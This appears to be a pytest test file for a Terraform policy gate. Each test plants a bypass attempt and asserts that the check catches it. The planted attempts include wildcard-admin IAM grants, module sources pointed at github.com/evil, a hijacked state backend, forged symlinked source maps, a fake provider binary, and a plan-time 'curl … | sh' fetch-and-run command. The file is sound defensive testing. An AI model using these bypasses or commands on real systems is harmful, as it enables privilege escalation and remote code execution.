"""Bypass corpus, root integrity: files dropped into a rendered root or modules/ to walk around the gate.

Each attempt is one test: `check` (real Checkov, in this process) exits 4
with a finding that names the file. The roots are rendered afresh in every
temporary repository, so these tests judge integrity, not a stale example.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from batchplane.cli.app import app
from tests.conftest import copy_example

runner = CliRunner()

ADMIN_POLICY = """
resource "aws_iam_role_policy" "admin" {
  name = "admin"
  role = "acme-dev-csv-ingest"
  policy = jsonencode({
    Version   = "2012-10-17"
    Statement = [{ Effect = "Allow", Action = "*", Resource = "*" }]
  })
}
"""
COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A copy of the example repository, its roots rendered by this batchplane."""
    target = copy_example(tmp_path)
    rendered = runner.invoke(app, ["render", "--spec", str(target / "platform.yaml")])
    assert rendered.exit_code == 0, rendered.output
    return target


def _check(repo: Path, *args: str) -> tuple[int, list[dict[str, Any]]]:
    report = repo / "report.json"
    result = runner.invoke(
        app, ["check", "--spec", str(repo / "platform.yaml"), "-f", "json", "-o", str(report), *args]
    )
    findings: list[dict[str, Any]] = json.loads(report.read_text())["findings"] if report.exists() else []
    return result.exit_code, [f for f in findings if not f["waived"]]


def _names(findings: list[dict[str, Any]], rule: str) -> list[str]:
    """Addresses of the unwaived findings of one rule."""
    return sorted(f["address"] for f in findings if f["id"] == rule)


def _declare(repo: Path, path: str, reason: str = "owned by finance, reviewed by the platform team") -> None:
    spec = repo / "platform.yaml"
    document = yaml.safe_load(spec.read_text())
    document.setdefault("policy", {}).setdefault("extra_files", []).append({"path": path, "reason": reason})
    spec.write_text(yaml.safe_dump(document, sort_keys=False))
    # The source maps carry spec lines, which moved: render again, as a user would.
    rendered = runner.invoke(app, ["render", "--spec", str(spec)])
    assert rendered.exit_code == 0, rendered.output


def _dev(repo: Path) -> Path:
    return repo / "environments" / "dev"


# --- attempts ---------------------------------------------------------------------


def test_an_extra_tf_file_granting_admin_fails(repo: Path) -> None:
    (_dev(repo) / "admin.tf").write_text(ADMIN_POLICY)
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-003") == ["environments/dev/admin.tf"]


def test_a_tf_json_file_granting_admin_fails(repo: Path) -> None:
    document = {
        "resource": {
            "aws_iam_role_policy": {
                "admin": {
                    "name": "admin",
                    "role": "acme-dev-csv-ingest",
                    "policy": '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
                }
            }
        }
    }
    (_dev(repo) / "admin.tf.json").write_text(json.dumps(document))
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-006") == ["environments/dev/admin.tf.json"]


def test_an_override_swapping_a_module_source_to_a_commit_pinned_git_source_fails(repo: Path) -> None:
    (_dev(repo) / "main_override.tf").write_text(
        f'module "job" {{\n  source = "git::https://github.com/evil/modules.git//job?ref={COMMIT}"\n}}\n'
    )
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-006") == ["environments/dev/main_override.tf"]
    assert _names(findings, "BP-TF-007") == ["environments/dev/main_override.tf:1"]


def test_an_override_of_allowed_account_ids_fails(repo: Path) -> None:
    (_dev(repo) / "providers_override.tf").write_text('provider "aws" {\n  allowed_account_ids = ["999999999999"]\n}\n')
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-006") == ["environments/dev/providers_override.tf"]


def test_an_override_swapping_the_backend_fails(repo: Path) -> None:
    (_dev(repo) / "backend_override.tf").write_text(
        'terraform {\n  backend "s3" {\n    bucket = "evil-state"\n    key = "dev"\n    region = "eu-west-1"\n  }\n}\n'
    )
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-006") == ["environments/dev/backend_override.tf"]


def _junit(repo: Path, *args: str) -> str:
    report = repo / "report.xml"
    runner.invoke(app, ["check", "--spec", str(repo / "platform.yaml"), "-f", "junit", "-o", str(report), *args])
    return report.read_text()


def test_an_override_changing_a_module_count_fails_and_keeps_the_modules_verdicts(repo: Path) -> None:
    # test reuses a network: module.network is absent there, and Checkov's verdicts on it are dropped...
    assert "module.network" not in _junit(repo, "--env", "test")
    (repo / "environments" / "test" / "network_override.tf").write_text('module "network" {\n  count = 1\n}\n')
    code, findings = _check(repo, "--env", "test")
    assert code == 4
    assert _names(findings, "BP-TF-006") == ["environments/test/network_override.tf"]
    # ...unless another file is loaded: then they stand.
    assert "module.network" in _junit(repo, "--env", "test")


def test_a_terraform_tfvars_file_fails(repo: Path) -> None:
    (_dev(repo) / "terraform.tfvars").write_text('log_retention_days = 1\nplatform = "acme"\n')
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-006") == ["environments/dev/terraform.tfvars"]


def test_an_auto_tfvars_json_file_fails(repo: Path) -> None:
    values = json.loads((_dev(repo) / "terraform.tfvars.json").read_text())
    jobs = values["jobs"]
    for job in jobs.values():
        job["policy_statements"] = [{"sid": "All", "effect": "Allow", "actions": ["*"], "resources": ["*"]}]
    (_dev(repo) / "wide.auto.tfvars.json").write_text(json.dumps({"jobs": jobs}))
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-006") == ["environments/dev/wide.auto.tfvars.json"]


def test_a_symlinked_file_fails(repo: Path) -> None:
    elsewhere = repo / "elsewhere.tf"
    elsewhere.write_text(ADMIN_POLICY)
    (_dev(repo) / "admin.tf").symlink_to(elsewhere)
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-005") == ["environments/dev/admin.tf"]


def test_a_symlinked_directory_fails(repo: Path) -> None:
    library = repo / "library"
    library.mkdir()
    (library / "admin.tf").write_text(ADMIN_POLICY)
    (_dev(repo) / "lib").symlink_to(library, target_is_directory=True)
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-005") == ["environments/dev/lib"]


def test_a_symlinked_batchplane_directory_fails(repo: Path) -> None:
    own = _dev(repo) / ".batchplane"
    forged = repo / "forged"
    own.rename(forged)
    sourcemap = forged / "sourcemap.json"
    # A forged source map would place every finding of the root under a waived spec path.
    sourcemap.write_text(sourcemap.read_text().replace('"jobs.', '"policy.'))
    own.symlink_to(forged, target_is_directory=True)
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-005") == ["environments/dev/.batchplane"]


def test_a_byte_edited_tfvars_with_a_widened_grant_fails(repo: Path) -> None:
    tfvars = _dev(repo) / "terraform.tfvars.json"
    tfvars.write_text(tfvars.read_text().replace('"s3:GetObject"', '"s3:*"'))
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-004") == ["environments/dev/terraform.tfvars.json"]


def test_a_declared_extra_file_with_a_remote_module_source_fails(repo: Path) -> None:
    _declare(repo, "environments/dev/budget.tf")
    (_dev(repo) / "budget.tf").write_text(f'module "budget" {{\n  source = "github.com/evil/budget?ref={COMMIT}"\n}}\n')
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-007") == ["environments/dev/budget.tf:1"]
    assert {f["spec_path"] for f in findings if f["id"] == "BP-TF-007"} == {"policy.extra_files[0]"}


def test_a_declared_extra_file_granting_admin_is_judged_by_checkov(repo: Path) -> None:
    _declare(repo, "environments/dev/admin.tf")
    (_dev(repo) / "admin.tf").write_text(ADMIN_POLICY)
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert "aws_iam_role_policy.admin" in {f["address"] for f in findings if f["id"].startswith("CKV")}


def test_a_new_module_with_its_own_inline_skip_fails(repo: Path) -> None:
    audit = repo / "modules" / "audit"
    audit.mkdir()
    (audit / "main.tf").write_text(
        'resource "aws_iam_policy" "audit" {\n'
        "  #checkov:skip=CKV_AWS_62:reviewed elsewhere\n"
        '  name   = "audit"\n'
        '  policy = jsonencode({ Version = "2012-10-17", '
        'Statement = [{ Effect = "Allow", Action = "*", Resource = "*" }] })\n'
        "}\n"
    )
    _declare(repo, "environments/dev/audit.tf")
    (_dev(repo) / "audit.tf").write_text('module "audit" {\n  source = "../../modules/audit"\n}\n')
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-009") == ["module.audit.aws_iam_policy.audit"]
    assert "modules/audit/main.tf" in next(f["message"] for f in findings if f["id"] == "BP-TF-009")
    assert _names(findings, "CKV_AWS_62") == ["module.audit.aws_iam_policy.audit"]


def test_an_edited_reviewed_module_loses_its_inline_skips(repo: Path) -> None:
    kms = repo / "modules" / "kms_key" / "main.tf"
    kms.write_text(
        kms.read_text().replace(
            "      identifiers = [local.account_arn]\n",
            '      identifiers = [local.account_arn, "arn:aws:iam::999999999999:root"]\n',
            1,
        )
    )
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    document = "module.logs_key.aws_iam_policy_document.this"
    assert _names(findings, "BP-TF-009") == [document] * 3  # one per skip: CKV_AWS_109, 111, 356
    assert _names(findings, "CKV_AWS_109") == [document]


def test_a_nested_module_call_to_a_remote_source_fails(repo: Path) -> None:
    job = repo / "modules" / "job" / "extra.tf"
    job.write_text(f'module "helper" {{\n  source = "git::https://example.com/helper.git?ref={COMMIT}"\n}}\n')
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-007") == ["modules/job/extra.tf:1"]


def test_a_declared_file_running_a_program_at_plan_time_fails(repo: Path) -> None:
    _declare(repo, "environments/dev/lookup.tf")
    (_dev(repo) / "lookup.tf").write_text(
        'data "external" "lookup" {\n  program = ["sh", "-c", "curl -s https://example.com/x | sh"]\n}\n'
    )
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-006") == ["environments/dev/lookup.tf:1"]


# --- what passes --------------------------------------------------------------------


def _integrity(findings: list[dict[str, Any]]) -> list[tuple[str, str]]:
    rules = {f"BP-TF-00{n}" for n in range(3, 10)}
    return [(f["id"], f["address"]) for f in findings if f["id"] in rules]


def test_the_untouched_example_has_no_integrity_finding(repo: Path) -> None:
    _, findings = _check(repo)
    assert _integrity(findings) == []


def test_a_declared_harmless_file_passes(repo: Path) -> None:
    _, before = _check(repo, "--env", "dev")
    _declare(repo, "environments/dev/budget.tf")
    (_dev(repo) / "budget.tf").write_text(
        'resource "aws_budgets_budget" "monthly" {\n'
        '  name         = "acme-dev-monthly"\n'
        '  budget_type  = "COST"\n'
        '  limit_amount = "500"\n'
        '  limit_unit   = "USD"\n'
        '  time_unit    = "MONTHLY"\n'
        "}\n"
    )
    _, after = _check(repo, "--env", "dev")
    assert _integrity(after) == []
    assert [f for f in after if "budget" in f["address"]] == []
    assert len(after) == len(before)


def test_a_committed_terraform_working_directory_fails(repo: Path) -> None:
    # A provider binary committed under .terraform/ would be used by `terraform init` if the lock's hash matches it.
    provider = _dev(repo) / ".terraform" / "providers" / "registry.terraform.io" / "hashicorp" / "aws" / "5.100.0"
    provider.mkdir(parents=True)
    (provider / "terraform-provider-aws").write_text("#!/bin/sh\n")
    for command in (
        ["init", "-q"],
        ["add", "-f", "."],
        ["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "x"],
    ):
        done = subprocess.run(["git", *command], cwd=repo, capture_output=True, check=False)
        assert done.returncode == 0, done.stderr
    code, findings = _check(repo, "--env", "dev")
    assert code == 4
    assert _names(findings, "BP-TF-003") == [
        "environments/dev/.terraform/providers/registry.terraform.io/hashicorp/aws/5.100.0/terraform-provider-aws"
    ]


def test_an_untracked_terraform_working_directory_is_tolerated(repo: Path) -> None:
    modules = _dev(repo) / ".terraform" / "modules"
    modules.mkdir(parents=True)
    (modules / "modules.json").write_text('{"Modules": []}')
    (_dev(repo) / "terraform.tfstate").write_text("{}")
    _, findings = _check(repo, "--env", "dev")
    assert _integrity(findings) == []
